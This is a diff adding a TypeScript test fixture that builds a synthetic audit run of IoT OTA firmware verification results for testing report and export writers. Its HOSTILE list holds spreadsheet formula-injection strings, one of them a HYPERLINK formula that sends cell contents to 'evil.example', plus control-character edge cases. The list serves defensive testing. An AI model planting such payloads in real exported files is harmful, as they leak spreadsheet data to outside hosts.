@@ -1,0 +1,338 @@
+import { SEVERITIES } from '../../src/core/model.ts';
+import { urlState, worstUrlState } from '../../src/core/link-state.ts';
+import type {
+  Answer,
+  CheckInfo,
+  Coverage,
+  Difference,
+  Evaluated,
+  EvaluatedRun,
+  Finding,
+  FirmwareFile,
+  Link,
+  Outcome,
+  Severity,
+  Status,
+  Summary,
+  Target,
+} from '../../src/core/model.ts';
+
+/** A made-up run of any size: each firmware is computed from its number, nothing is held. */
+
+export const AS_OF = '2026-11-23T02:00:00.000Z';
+const AS_OF_MS = Date.parse(AS_OF);
+const HOUR_MS = 3_600_000;
+
+/** Text that breaks naive writers. The first ones a spreadsheet would run. */
+export const HOSTILE: readonly string[] = [
+  '=HYPERLINK("http://evil.example/?"&A1,"ok")',
+  '+1+1',
+  '-2+3',
+  '@SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\0=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  '  =1+1',
+  'quotes " and "" and , commas',
+  'two\r\nlines',
+  'lone \r return',
+  'lone \n feed',
+  '00123',
+  '1E5',
+  '2026-11-23',
+  '<xml attr="&amp;">]]></xml>',
+  'control \u0007 bell \u001b escape',
+  'half pair \ud83d end',
+  '_x0041_ is no A',
+  '中文固件 🚀',
+  ' spaces ',
+  "'quoted",
+];
+
+const TARGET: Target = {
+  account: 'prod & test',
+  region: 'cn-shanghai',
+  iotInstanceId: 'iot-060a02m5',
+};
+
+const CHECKS: CheckInfo[] = [
+  check('verification-failed', 'critical', 'firmware'),
+  check('unverified', 'high', 'firmware'),
+  check('url-expired', 'high', 'file'),
+  check('url-expiring', 'medium', 'file'),
+  check('verification-stalled', 'medium', 'firmware'),
+  check('progress-mismatch', 'low', 'firmware'),
+  check('digest-weak', 'info', 'file'),
+];
+
+const STATUSES: Status[] = [
+  'verified',
+  'verified',
+  'verified',
+  'unverified',
+  'verifying',
+  'failed',
+  'not-required',
+];
+
+/** One firmware of the run, by its place from 1. */
+export function evaluatedAt(seq: number): Evaluated {
+  const answer = answerAt(seq);
+  const files = answer.kind === 'observed' ? answer.firmware.files : [];
+  const urlStates = files.map((file) => urlState(file.link, AS_OF_MS, 6 * HOUR_MS));
+  const worst = worstUrlState(urlStates);
+  const findings = findingsAt(seq, answer);
+  const failing = findings.filter((finding) => finding.verdict === 'fail').map((finding) => finding.severity);
+  const link = files[worst ? urlStates.indexOf(worst) : -1]?.link;
+  return {
+    observation: {
+      seq,
+      target: TARGET,
+      firmwareId: firmwareIdAt(seq),
+      source: 'ids.csv',
+      sourceLine: seq + 1,
+      observedAt: new Date(AS_OF_MS + seq * 50).toISOString(),
+      requestId: `REQUEST-${seq}`,
+      attempts: 1 + (seq % 2),
+      answer,
+    },
+    outcome: outcomeOf(answer, failing.length),
+    worstSeverity: SEVERITIES.find((severity) => failing.includes(severity)) ?? null,
+    verdicts: [],
+    findings,
+    urlStates,
+    worstLink: worst && link ? { state: worst, link } : null,
+  };
+}
+
+/** A run of `count` firmware. `mutate` may change what the summary says. */
+export function sampleRun(count: number, mutate: (summary: Summary) => void = () => undefined): EvaluatedRun {
+  const summary = summaryOf(count);
+  mutate(summary);
+  return {
+    info: {
+      runId: '20261123T020000Z-a1b2c3',
+      job: 'nightly',
+      toolVersion: '0.1.0',
+      nodeVersion: 'v20.20.2',
+      host: 'audit-01',
+      startedAt: '2026-11-23T02:00:00.000Z',
+      asOf: AS_OF,
+    },
+    finishedAt: '2026-11-23T02:03:21.500Z',
+    summary,
+    checks: CHECKS,
+    async *firmware() {
+      for (let seq = 1; seq <= count; seq += 1) yield evaluatedAt(seq);
+    },
+    async *differences() {
+      yield* DIFFERENCES;
+    },
+  };
+}
+
+export const DIFFERENCES: Difference[] = [
+  {
+    target: TARGET,
+    firmwareId: 'only-in-list',
+    reason: 'not-in-selection',
+    source: 'list',
+    sourceLine: null,
+  },
+  { target: TARGET, firmwareId: '=only-in-file', reason: 'not-in-list', source: 'ids.csv', sourceLine: 7 },
+];
+
+function firmwareIdAt(seq: number): string {
+  return `fw${String(seq).padStart(24, '0')}`;
+}
+
+function check(id: string, severity: Severity, scope: CheckInfo['scope']): CheckInfo {
+  return {
+    id,
+    category: 'verification',
+    severity,
+    enabled: id !== 'digest-weak',
+    scope,
+    title: `Nothing is ${id}`,
+    failingTitle: `Something is ${id}`,
+    why: 'A device that is sent this package may fail, or run what nobody verified. '.repeat(2),
+    remediation: {
+      console: 'Maintenance, OTA update, the package, Verify: send it to a test device first.',
+      api: 'CreateOTAVerifyJob with the FirmwareId and a test device.',
+    },
+    params: id === 'url-expiring' ? [{ name: 'within', value: '6h', description: 'The window.' }] : [],
+  };
+}
+
+function answerAt(seq: number): Answer {
+  if (seq % 20 === 5)
+    return { kind: 'not-found', code: 'iot.ota.FirmwareNotFound', detail: 'The firmware does not exist.' };
+  if (seq % 50 === 12)
+    return { kind: 'denied', code: 'Forbidden.RAM', detail: 'No permission for iot:QueryOTAFirmware.' };
+  if (seq % 50 === 31)
+    return { kind: 'failed', code: 'HeadersTimeout', detail: 'No answer within 10 s, 5 attempts.' };
+  const hostile = HOSTILE[(seq - 1) % HOSTILE.length] ?? '';
+  const status = STATUSES[seq % STATUSES.length] ?? 'verified';
+  const fileCount = seq % 6 === 0 ? 2 : seq % 97 === 1 ? 0 : 1;
+  return {
+    kind: 'observed',
+    firmware: {
+      firmwareId: firmwareIdAt(seq),
+      firmwareName: hostile,
+      description: seq === 3 ? 'long '.repeat(8_000) : hostile,
+      productKey: `a1Product${seq % 3}`,
+      productName: ['Smart meter', '智能网关', 'Valve & pump'][seq % 3] ?? '',
+      moduleName: ['default', 'MCU', 'modem'][seq % 3] ?? '',
+      typeCode: seq % 4 === 0 ? 1 : 0,
+      type: seq % 4 === 0 ? 'delta' : 'full',
+      srcVersion: seq % 4 === 0 ? '1.0.0' : '',
+      destVersion: `1.${seq % 10}.0`,
+      statusCode: STATUSES.indexOf(status),
+      statusRaw: String(STATUSES.indexOf(status)),
+      status,
+      verifyProgress: seq % 101,
+      signMethod: 'SHA256',
+      firmwareSign: 'ab'.repeat(32),
+      multiFile: fileCount > 1,
+      files: Array.from({ length: fileCount }, (_, at) => fileAt(seq, at + 1)),
+      udiLength: 0,
+      utcCreate: '2026-10-01T08:09:10.123Z',
+      utcModified: seq % 7 === 0 ? null : '2026-10-02T08:09:10.000Z',
+    },
+  };
+}
+
+function fileAt(seq: number, index: number): FirmwareFile {
+  const name = HOSTILE[(seq + index) % HOSTILE.length] ?? '';
+  const sizeBytes = seq % 9 === 0 ? null : 1_000 * seq + index;
+  return {
+    index,
+    name,
+    sizeBytes,
+    digest: 'cd'.repeat(32),
+    md5: index > 1 ? 'ef'.repeat(16) : '',
+    link: linkAt(seq + index),
+  };
+}
+
+function linkAt(n: number): Link {
+  const place = { scheme: 'https', host: 'iotx-ota.oss-cn-shanghai.aliyuncs.com', path: `/ota/${n}.bin` };
+  const at = (ms: number): string => new Date(AS_OF_MS + ms).toISOString();
+  if (n % 11 === 0) return { kind: 'missing' };
+  if (n % 13 === 0) return { kind: 'unsigned', ...place };
+  if (n % 17 === 0) return { kind: 'unreadable', ...place, problem: 'Expires is no number' };
+  if (n % 5 === 0) return { kind: 'signed', version: 'V1', ...place, expiresAt: at(-1_500) };
+  if (n % 7 === 0) return { kind: 'signed', version: 'V4', ...place, expiresAt: at(HOUR_MS) };
+  return { kind: 'signed', version: 'V2', ...place, expiresAt: at(24 * HOUR_MS) };
+}
+
+function findingsAt(seq: number, answer: Answer): Finding[] {
+  if (answer.kind !== 'observed')
+    return answer.kind === 'not-found' ? [finding(seq, 'not-found', 'high', 'fail')] : [];
+  if (answer.firmware.status === 'failed') return [finding(seq, 'verification-failed', 'critical', 'fail')];
+  if (answer.firmware.status === 'unverified') {
+    return [finding(seq, 'progress-mismatch', 'low', 'unknown'), finding(seq, 'unverified', 'high', 'fail')];
+  }
+  return seq % 8 === 0 ? [finding(seq, 'url-expiring', 'medium', 'fail')] : [];
+}
+
+function finding(seq: number, checkId: string, severity: Severity, verdict: 'fail' | 'unknown'): Finding {
+  return {
+    checkId,
+    category: 'verification',
+    severity,
+    verdict,
+    fileIndex: 0,
+    fileName: '',
+    observed: HOSTILE[seq % HOSTILE.length] ?? '',
+    expected: 'Status 1 (verified)',
+    message: `The package ${firmwareIdAt(seq)} has not been verified on a device since it was uploaded.`,
+    findingId: `f-${checkId}-${seq}`,
+    remediation:
+      'Verify it with CreateOTAVerifyJob on a test device, or delete it when no device should get it.',
+    state: '',
+    firstSeen: '',
+    exceptionId: '',
+    exceptionUntil: '',
+  };
+}
+
+function outcomeOf(answer: Answer, failing: number): Outcome {
+  if (answer.kind === 'observed') return failing > 0 ? 'fail' : 'pass';
+  return answer.kind === 'failed' ? 'error' : answer.kind;
+}
+
+function zeroes(): Record<Severity, number> {
+  return { critical: 0, high: 0, medium: 0, low: 0, info: 0 };
+}
+
+function summaryOf(count: number): Summary {
+  const coverage: Coverage = { requested: count, audited: 0, notFound: 0, denied: 0, failed: 0 };
+  const summary: Summary = {
+    complete: false,
+    incompleteBecause: ['Some firmware was denied or failed: its rows on Coverage say why.'],
+    coverage,
+    outcomes: { pass: 0, fail: 0, 'not-found': 0, denied: 0, error: 0 },
+    failing: zeroes(),
+    unknown: zeroes(),
+    checks: { 'url-expiring': { pass: 0, fail: 0, unknown: 0, notApplicable: 0 } },
+    statuses: {},
+    urlStates: {},
+    products: [],
+    targets: [],
+    files: 0,
+    totalSizeBytes: 0,
+    differences: DIFFERENCES.length,
+    notes: [
+      'Of the links 92 % end within the window: the service mints links of about 24 hours, so the window is too wide.',
+    ],
+    failOn: 'high',
+    findingsAtOrAboveFailOn: 0,
+  };
+  for (let seq = 1; seq <= count; seq += 1) addTo(summary, evaluatedAt(seq));
+  summary.findingsAtOrAboveFailOn = summary.failing.critical + summary.failing.high;
+  summary.targets.push({ coverage, report: REPORT });
+  return summary;
+}
+
+const REPORT: Summary['targets'][number]['report'] = {
+  target: TARGET,
+  endpoint: 'https://iot.cn-shanghai.aliyuncs.com',
+  identity: 'environment variables',
+  selection: 'ids.csv, compared with the live list',
+  list: { total: 121, collected: 121, pages: 2, repeated: 1 },
+  duplicates: { count: 3, lines: [14, 27, 90] },
+  calls: 140,
+  throttled: 4,
+  stopped: null,
+  selectionProblem: null,
+};
+
+const KINDS = { observed: 'audited', 'not-found': 'notFound', denied: 'denied', failed: 'failed' } as const;
+
+function addTo(summary: Summary, evaluated: Evaluated): void {
+  const { answer } = evaluated.observation;
+  summary.coverage[KINDS[answer.kind]] += 1;
+  summary.outcomes[evaluated.outcome] += 1;
+  for (const { verdict, severity, checkId } of evaluated.findings) {
+    summary[verdict === 'fail' ? 'failing' : 'unknown'][severity] += 1;
+    const counts = (summary.checks[checkId] ??= { pass: 0, fail: 0, unknown: 0, notApplicable: 0 });
+    counts[verdict] += 1;
+  }
+  if (answer.kind !== 'observed') return;
+  const { status, files, productName } = answer.firmware;
+  summary.statuses[status] = (summary.statuses[status] ?? 0) + 1;
+  const state = evaluated.worstLink?.state;
+  if (state) summary.urlStates[state] = (summary.urlStates[state] ?? 0) + 1;
+  summary.files += files.length;
+  for (const file of files) summary.totalSizeBytes += file.sizeBytes ?? 0;
+  let product = summary.products.find(({ label }) => label === productName);
+  if (!product) summary.products.push((product = { label: productName, firmware: 0, failing: 0 }));
+  product.firmware += 1;
+  if (evaluated.outcome === 'fail') product.failing += 1;
+}
